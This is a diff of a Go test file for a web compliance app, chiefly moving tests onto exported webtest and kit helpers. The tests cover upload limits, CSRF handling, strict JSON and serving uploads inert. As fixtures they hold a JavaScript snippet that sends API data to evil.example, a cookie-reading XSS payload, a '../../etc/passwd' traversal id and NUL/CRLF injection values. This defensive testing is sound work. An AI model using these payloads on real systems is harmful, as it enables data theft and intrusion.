@@ -1,4 +1,4 @@
-package web
+package web_test
 
 import (
 	"bytes"
@@ -18,6 +18,9 @@ import (
 
 	"ward/internal/store"
 	"ward/internal/store/storetest"
+	"ward/internal/web/app"
+	"ward/internal/web/kit"
+	"ward/internal/web/webtest"
 	"ward/internal/workspace"
 )
 
@@ -65,16 +68,16 @@ func (r repeat) Read(p []byte) (int, error) {
 func TestUploadsLeaveNothingBehind(t *testing.T) {
 	tmp := t.TempDir()
 	t.Setenv("TMPDIR", tmp) // where net/http would spill a multipart body
-	e := newEnv(t, Config{})
-	e.seedDemo()
-	ed := e.users[store.RoleEditor]
-	c, csrf := e.login(ed)
+	e := webtest.NewEnv(t, kit.Config{})
+	e.SeedDemo()
+	ed := e.Users[store.RoleEditor]
+	c, csrf := e.Login(ed)
 	const path = "/orgs/alpha/controls/vulnerability-scanning/evidence"
-	blobTmp := filepath.Join(e.st.BlobFolder().Dir(), "tmp")
-	send := func(body io.Reader, ct string) response {
-		req, _ := http.NewRequest("POST", e.srv.URL+path, body)
+	blobTmp := filepath.Join(e.Store.BlobFolder().Dir(), "tmp")
+	send := func(body io.Reader, ct string) webtest.Response {
+		req, _ := http.NewRequest("POST", e.HTTP.URL+path, body)
 		req.Header.Set("Content-Type", ct)
-		return e.send(c, req)
+		return e.Send(c, req)
 	}
 	const size = 33 << 20
 
@@ -91,8 +94,8 @@ func TestUploadsLeaveNothingBehind(t *testing.T) {
 	if n := countFiles(t, tmp) + countFiles(t, blobTmp); n != 0 {
 		t.Errorf("%d temporary files left after refused uploads", n)
 	}
-	blobsBefore := countFiles(t, e.st.BlobFolder().Dir())
-	log, _ := e.st.AccountLog(context.Background(), ed.Email, 5, 0)
+	blobsBefore := countFiles(t, e.Store.BlobFolder().Dir())
+	log, _ := e.Store.AccountLog(context.Background(), ed.Email, 5, 0)
 	if len(log) == 0 || log[0].Action != "csrf.refused" || !strings.Contains(string(log[0].Data), "/controls/{id}/evidence") {
 		t.Errorf("the refused upload is not on the accounts' trail: %+v", log)
 	}
@@ -107,10 +110,10 @@ func TestUploadsLeaveNothingBehind(t *testing.T) {
 	if n := countFiles(t, tmp) + countFiles(t, blobTmp); n != 0 {
 		t.Errorf("%d temporary files left after an upload", n)
 	}
-	if got := countFiles(t, e.st.BlobFolder().Dir()); got != blobsBefore+1 {
+	if got := countFiles(t, e.Store.BlobFolder().Dir()); got != blobsBefore+1 {
 		t.Errorf("blobs %d → %d, want one more", blobsBefore, got)
 	}
-	ws, _ := e.st.Org(e.orgA).Workspace(context.Background())
+	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
 	before := len(ws.Evidence)
 
 	// The same bytes under another name: no 500, nothing stored twice.
@@ -119,19 +122,19 @@ func TestUploadsLeaveNothingBehind(t *testing.T) {
 	if r.StatusCode != http.StatusSeeOther || !strings.Contains(r.Header.Get("Location"), "existing=1") {
 		t.Fatalf("the same bytes again: %d %q %.300s", r.StatusCode, r.Header.Get("Location"), r.Body)
 	}
-	if page := e.get(c, r.Header.Get("Location")); !strings.Contains(page.Body, "already") {
+	if page := e.Get(c, r.Header.Get("Location")); !strings.Contains(page.Body, "already") {
 		t.Errorf("the control page does not say the file was already there")
 	}
-	ws, _ = e.st.Org(e.orgA).Workspace(context.Background())
+	ws, _ = e.Store.Org(e.OrgA).Workspace(context.Background())
 	if len(ws.Evidence) != before {
 		t.Errorf("evidence %d → %d, want the same item", before, len(ws.Evidence))
 	}
 
 	// A request that is not an upload is held to 1 MiB.
-	req, _ := http.NewRequest("POST", e.srv.URL+"/api/v1/orgs/alpha/systems", strings.NewReader(`{"id":"x","kind":"service","description":"`+strings.Repeat("d", 2<<20)+`"}`))
+	req, _ := http.NewRequest("POST", e.HTTP.URL+"/api/v1/orgs/alpha/systems", strings.NewReader(`{"id":"x","kind":"service","description":"`+strings.Repeat("d", 2<<20)+`"}`))
 	req.Header.Set("Content-Type", "application/json")
-	req.Header.Set(csrfHeader, csrf)
-	if r := e.send(c, req); r.StatusCode != http.StatusRequestEntityTooLarge {
+	req.Header.Set(kit.CSRFHeader, csrf)
+	if r := e.Send(c, req); r.StatusCode != http.StatusRequestEntityTooLarge {
 		t.Errorf("a 2 MiB record: %d, want 413", r.StatusCode)
 	}
 }
@@ -141,19 +144,19 @@ func TestUploadsLeaveNothingBehind(t *testing.T) {
 // half-written folder. The name is made safe once, at upload.
 func TestLongUploadNameExports(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, Config{})
-	if _, err := e.st.Org(e.orgA).Put(context.Background(), "test", store.KindControl, "vulnerability-scanning",
+	e := webtest.NewEnv(t, kit.Config{})
+	if _, err := e.Store.Org(e.OrgA).Put(context.Background(), "test", store.KindControl, "vulnerability-scanning",
 		workspace.Control{ID: "vulnerability-scanning", Status: "implemented", Frequency: "monthly"}); err != nil {
 		t.Fatal(err)
 	}
-	c, csrf := e.login(e.users[store.RoleEditor])
+	c, csrf := e.Login(e.Users[store.RoleEditor])
 	name := strings.Repeat("quarterly-review-", 300) + ".pdf"
-	r := e.upload(c, "/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"csrf": csrf, "collected": "2026-10-15"},
+	r := e.Upload(c, "/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"csrf": csrf, "collected": "2026-10-15"},
 		[][2]string{{name, "%PDF-1.4 scan"}}, nil)
 	if r.StatusCode != http.StatusSeeOther {
 		t.Fatalf("upload: %d %.300s", r.StatusCode, r.Body)
 	}
-	ws, _ := e.st.Org(e.orgA).Workspace(context.Background())
+	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
 	var file string
 	for _, ev := range ws.Evidence {
 		if strings.Contains(ev.File, "quarterly-review-") {
@@ -164,7 +167,7 @@ func TestLongUploadNameExports(t *testing.T) {
 		t.Errorf("stored name %q: want at most 120 characters after the hash, keeping .pdf", base)
 	}
 	out := t.TempDir()
-	if err := workspace.Write(out, ws, workspace.WriteOptions{Blob: e.st.Blobs().Open}); err != nil {
+	if err := workspace.Write(out, ws, workspace.WriteOptions{Blob: e.Store.Blobs().Open}); err != nil {
 		t.Fatalf("export: %v", err)
 	}
 	if _, err := workspace.Load(out, workspace.Options{}); err != nil {
@@ -178,22 +181,22 @@ func TestLongUploadNameExports(t *testing.T) {
 func TestNULIdRefusedOnBothEngines(t *testing.T) {
 	for _, eng := range storetest.Engines() {
 		t.Run(eng.Name, func(t *testing.T) {
-			e := newEnvAt(t, Config{}, eng.URL(t))
-			c, csrf := e.login(e.users[store.RoleEditor])
+			e := webtest.NewEnvAt(t, kit.Config{}, eng.URL(t))
+			c, csrf := e.Login(e.Users[store.RoleEditor])
 			for path, body := range map[string]string{
 				"/api/v1/orgs/alpha/systems":   `{"id":"patient\u0000api","kind":"service"}`,
 				"/api/v1/orgs/alpha/vendors":   `{"id":"../../etc/passwd"}`,
 				"/api/v1/orgs/alpha/customers": `{"id":"st marys\r\n"}`,
 			} {
-				req, _ := http.NewRequest("POST", e.srv.URL+path, strings.NewReader(body))
+				req, _ := http.NewRequest("POST", e.HTTP.URL+path, strings.NewReader(body))
 				req.Header.Set("Content-Type", "application/json")
-				req.Header.Set(csrfHeader, csrf)
-				r := e.send(c, req)
+				req.Header.Set(kit.CSRFHeader, csrf)
+				r := e.Send(c, req)
 				if r.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(r.Body, `"id"`) {
 					t.Errorf("POST %s %s: %d, want 422 naming id\n%.300s", path, body, r.StatusCode, r.Body)
 				}
 			}
-			if n, _ := e.st.Org(e.orgA).Counts(context.Background()); n[store.KindSystem] != 2 {
+			if n, _ := e.Store.Org(e.OrgA).Counts(context.Background()); n[store.KindSystem] != 2 {
 				t.Errorf("%d systems, want the 2 seeded", n[store.KindSystem])
 			}
 		})
@@ -205,9 +208,9 @@ func TestNULIdRefusedOnBothEngines(t *testing.T) {
 // JSON body is now read strictly, and the answer says where it stops.
 func TestAPIStrictJSON(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, Config{})
-	e.seedDemo()
-	c, csrf := e.login(e.users[store.RoleEditor])
+	e := webtest.NewEnv(t, kit.Config{})
+	e.SeedDemo()
+	c, csrf := e.Login(e.Users[store.RoleEditor])
 	for _, tc := range []struct{ method, path, body, says string }{
 		{"POST", "/api/v1/orgs/alpha/vendors", `{"id":"acme-x"}{"id":"evil"}`, "data after the JSON value"},
 		{"POST", "/api/v1/orgs/alpha/vendors", `{"id":"acme-x"} trailing`, "data after the JSON value"},
@@ -217,15 +220,15 @@ func TestAPIStrictJSON(t *testing.T) {
 		{"POST", "/api/v1/orgs/alpha/risks", `{"id":"r-x"} x`, "data after the JSON value"},
 		{"POST", "/api/v1/orgs/alpha/controls/access-review", `{"status":"implemented"}]`, "data after the JSON value"},
 	} {
-		req, _ := http.NewRequest(tc.method, e.srv.URL+tc.path, strings.NewReader(tc.body))
+		req, _ := http.NewRequest(tc.method, e.HTTP.URL+tc.path, strings.NewReader(tc.body))
 		req.Header.Set("Content-Type", "application/json")
-		req.Header.Set(csrfHeader, csrf)
-		r := e.send(c, req)
+		req.Header.Set(kit.CSRFHeader, csrf)
+		r := e.Send(c, req)
 		if r.StatusCode < 400 || r.StatusCode >= 500 || !strings.Contains(r.Body, tc.says) {
 			t.Errorf("%s %s %q: %d, want 4xx saying %q\n%.300s", tc.method, tc.path, tc.body, r.StatusCode, tc.says, r.Body)
 		}
 	}
-	ws, _ := e.st.Org(e.orgA).Workspace(context.Background())
+	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
 	if ws.Vendor("acme-x") != nil || ws.Vendor("evil") != nil {
 		t.Error("a refused body was stored")
 	}
@@ -235,10 +238,10 @@ func TestAPIStrictJSON(t *testing.T) {
 // before its files (validCSRF reads it before a byte of a file), and a
 // browser sends fields in the order of the form.
 func TestUploadFormsSendTheTokenFirst(t *testing.T) {
-	files, _ := fs.Glob(templateFS, "templates/*.html")
+	files, _ := fs.Glob(kit.TemplateFS, "templates/*.html")
 	n := 0
 	for _, f := range files {
-		b, _ := fs.ReadFile(templateFS, f)
+		b, _ := fs.ReadFile(kit.TemplateFS, f)
 		for _, form := range regexp.MustCompile(`(?s)<form[^>]*multipart/form-data.*?</form>`).FindAll(b, -1) {
 			n++
 			first := regexp.MustCompile(`<input[^>]*>`).Find(form)
@@ -259,34 +262,34 @@ func TestUploadFormsSendTheTokenFirst(t *testing.T) {
 // accounts' trail as they were; the downloads are POSTs.
 func TestNoAuditWritesFromGET(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, Config{})
-	e.seedDemo()
-	admin := e.users[store.RoleAdmin]
-	c, csrf := e.login(admin)
-	r := e.upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-15"},
+	e := webtest.NewEnv(t, kit.Config{})
+	e.SeedDemo()
+	admin := e.Users[store.RoleAdmin]
+	c, csrf := e.Login(admin)
+	r := e.Upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-15"},
 		[][2]string{{"scan.txt", "scan\n"}}, map[string]string{"X-CSRF-Token": csrf})
-	var res UploadResult
+	var res app.UploadResult
 	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != 1 {
 		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
 	}
-	ws, _ := e.st.Org(e.orgA).Workspace(context.Background())
+	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
 	real := map[string]string{"format": "csv", "kind": "ssp", "fw": "soc2"}
 	ids := map[string]string{"evidence": res.Added[0].ID, "agreements": ws.Agreements[0].ID, "systems": ws.Systems[0].ID,
 		"risks": ws.Risks[0].ID, "incidents": ws.Incidents[0].ID, "controls": "vulnerability-scanning"}
 	heads := func() string {
-		h, _ := e.st.Org(e.orgA).AuditHead(context.Background())
-		a, _ := e.st.AccountHead(context.Background())
+		h, _ := e.Store.Org(e.OrgA).AuditHead(context.Background())
+		a, _ := e.Store.AccountHead(context.Background())
 		return fmt.Sprint(h, a)
 	}
-	for _, rt := range Routes() {
-		if rt.Method != http.MethodGet || rt.Role == Public {
+	for _, rt := range kit.Routes() {
+		if rt.Method != http.MethodGet || rt.Role == kit.Public {
 			continue
 		}
-		path := wildcard.ReplaceAllStringFunc(strings.ReplaceAll(rt.Pattern, "{$}", ""), func(w string) string {
-			name := wildcard.FindStringSubmatch(w)[1]
+		path := webtest.Wildcard.ReplaceAllStringFunc(strings.ReplaceAll(rt.Pattern, "{$}", ""), func(w string) string {
+			name := webtest.Wildcard.FindStringSubmatch(w)[1]
 			switch {
 			case name == "org":
-				return slugA
+				return webtest.SlugA
 			case real[name] != "":
 				return real[name]
 			case name == "id":
@@ -299,14 +302,14 @@ func TestNoAuditWritesFromGET(t *testing.T) {
 			return "sample"
 		})
 		before := heads()
-		resp := e.get(c, path)
+		resp := e.Get(c, path)
 		if after := heads(); after != before {
 			t.Errorf("GET %s (%d) wrote to a trail: %s → %s", path, resp.StatusCode, before, after)
 		}
 	}
 	// And the downloads themselves are recorded when POSTed.
 	before := heads()
-	if r := e.fetch(c, csrf, "/orgs/alpha/evidence/"+res.Added[0].ID+"/file"); r.StatusCode != 200 {
+	if r := e.Fetch(c, csrf, "/orgs/alpha/evidence/"+res.Added[0].ID+"/file"); r.StatusCode != 200 {
 		t.Fatalf("download: %d", r.StatusCode)
 	}
 	if heads() == before {
@@ -320,9 +323,9 @@ func TestNoAuditWritesFromGET(t *testing.T) {
 // served as bytes, as an attachment, sandboxed.
 func TestUploadedFilesServedInert(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, Config{})
-	e.seedDemo()
-	c, csrf := e.login(e.users[store.RoleEditor])
+	e := webtest.NewEnv(t, kit.Config{})
+	e.SeedDemo()
+	c, csrf := e.Login(e.Users[store.RoleEditor])
 	files := [][2]string{
 		{"steal.js", "fetch('/api/v1/orgs').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))"},
 		{"page.html", "<script>alert(document.cookie)</script>"},
@@ -330,16 +333,16 @@ func TestUploadedFilesServedInert(t *testing.T) {
 		{"scan.png", "\x89PNG\r\n\x1a\n...."},
 		{"report.pdf", "%PDF-1.4 ..."},
 	}
-	r := e.upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-16"}, files, map[string]string{"X-CSRF-Token": csrf})
-	var res UploadResult
+	r := e.Upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-16"}, files, map[string]string{"X-CSRF-Token": csrf})
+	var res app.UploadResult
 	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != len(files) {
 		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
 	}
-	au, atok := e.login(e.users[store.RoleAuditor])
+	au, atok := e.Login(e.Users[store.RoleAuditor])
 	want := map[string]string{".js": "application/octet-stream", ".html": "application/octet-stream", ".svg": "application/octet-stream",
 		".png": "image/png", ".pdf": "application/pdf"}
 	for _, ev := range res.Added {
-		dl := e.fetch(au, atok, "/orgs/alpha/evidence/"+ev.ID+"/file")
+		dl := e.Fetch(au, atok, "/orgs/alpha/evidence/"+ev.ID+"/file")
 		ext := filepath.Ext(ev.File)
 		if got := dl.Header.Get("Content-Type"); got != want[ext] {
 			t.Errorf("%s served as %q, want %q", ev.File, got, want[ext])
